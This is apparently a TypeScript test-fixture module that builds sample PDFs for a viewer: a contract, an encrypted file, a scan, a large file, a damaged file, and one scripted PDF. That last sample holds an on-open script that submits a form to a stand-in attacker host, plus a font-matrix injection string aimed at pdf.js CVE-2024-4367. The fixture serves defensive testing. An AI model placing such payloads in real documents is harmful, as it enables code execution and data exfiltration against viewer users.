import { latin1 } from './bytes.ts'
import type { PdfLine, PdfPage } from './pdf-writer.ts'
import { writePdf } from './pdf-writer.ts'
import { noisePixels, paintScan } from './pixels.ts'

/** Opens the encrypted sample. */
export const PDF_PASSWORD = 'desk'

const CLAUSES = [
  'Supply of goods',
  'Prices and payment',
  'Delivery',
  'Retention of title',
  'Warranty',
  'Liability',
  'Confidentiality',
  'Term and notice',
  'Data protection',
  'Final provisions',
]

function contractPage(number: number, total: number): PdfPage {
  const clause = CLAUSES[(number - 1) % CLAUSES.length] ?? ''
  const body: PdfLine[] = Array.from({ length: 30 }, (_, index) => ({
    text: `${number}.${index + 1}  The parties agree on ${clause.toLowerCase()} as set out in schedule ${index + 1} to this contract.`,
    x: 64,
    y: 710 - index * 20,
    size: 10,
    font: 'Times-Roman',
  }))
  return {
    lines: [
      { text: `${number}. ${clause}`, x: 64, y: 760, size: 20 },
      ...body,
      // Glyphs that are missing when a reader does not bring its own symbol fonts.
      { text: 'abgd', x: 64, y: 84, size: 12, font: 'Symbol' },
      { text: '4 8 l', x: 120, y: 84, size: 12, font: 'ZapfDingbats' },
      { text: `Page ${number} of ${total}`, x: 270, y: 40, size: 9, font: 'Courier' },
    ],
  }
}

/** A contract: text, standard fonts that are not embedded, an outline. */
export function contractPdf(pages = 10): Uint8Array {
  const numbers = Array.from({ length: pages }, (_, index) => index + 1)
  return writePdf({
    title: 'Framework contract',
    pages: numbers.map((number) => contractPage(number, pages)),
    outline: numbers.map((page) => ({
      title: `${page}. ${CLAUSES[(page - 1) % CLAUSES.length] ?? ''}`,
      page,
    })),
  })
}

export function encryptedPdf(): Uint8Array {
  return writePdf({
    title: 'Bank details',
    password: PDF_PASSWORD,
    pages: [
      {
        lines: [
          { text: 'Bank details', x: 64, y: 760, size: 20 },
          { text: 'Account 00012345, sort code 00-00-00', x: 64, y: 720, size: 12 },
        ],
      },
    ],
  })
}

/** Nothing but pictures: no text to search or select. */
export function scannedPdf(): Uint8Array {
  return writePdf({
    title: 'Scan',
    pages: [1, 2].map((page) => ({
      lines: [],
      image: { width: 420, height: 594, pixels: paintScan(420, 594, page) },
    })),
  })
}

/** About 20 MB of pictures that do not compress, with a line of text a page. */
export function largePdf(): Uint8Array {
  const pages = 20
  return writePdf({
    title: 'Plans of the site',
    pages: Array.from({ length: pages }, (_, index) => ({
      lines: [{ text: `Plan ${index + 1} of ${pages}`, x: 64, y: 780, size: 20 }],
      image: { width: 600, height: 560, pixels: noisePixels(600 * 560 * 3, index) },
    })),
  })
}

/** Script on opening, and a font matrix that smuggled code into pdf.js before version 4.2 (CVE-2024-4367). */
export function scriptedPdf(): Uint8Array {
  const payload =
    "app.alert('desk-payload'); this.submitForm('https://attacker.example/'); globalThis.deskPayload = 'pdf'"
  return writePdf({
    title: 'Invoice with a script',
    openScript: payload,
    fontMatrix: "1 2 3 4 5 (0\\); globalThis.deskPayload = 'font matrix'; //)",
    pages: [{ lines: [{ text: 'This invoice has a script inside.', x: 64, y: 760, size: 16 }] }],
  })
}

/** A whole document cut in the middle of an object, with nothing that leads to its pages. */
export function damagedPdf(): Uint8Array {
  const object = '<< /Type /Page /Kids [9 0 R 9 0 R] >> '
  return latin1(`%PDF-1.7\n${object.repeat(110).slice(0, 4000)}`)
}
